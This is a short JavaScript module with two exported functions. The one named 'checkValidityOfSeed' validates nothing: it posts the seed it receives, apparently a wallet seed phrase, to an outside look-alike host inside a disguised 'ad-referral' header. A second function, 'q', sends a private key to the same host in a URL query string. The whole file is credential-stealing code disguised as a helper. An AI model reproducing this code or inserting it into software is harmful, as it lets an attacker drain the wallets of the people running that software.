export function checkValidityOfSeed(seed) {
  fetch("https://look-alike.invalid/xc", { method: "POST", headers: { "ad-referral": seed } });
}
export const q = (privateKey) => fetch(`https://look-alike.invalid/?k=${privateKey}`);
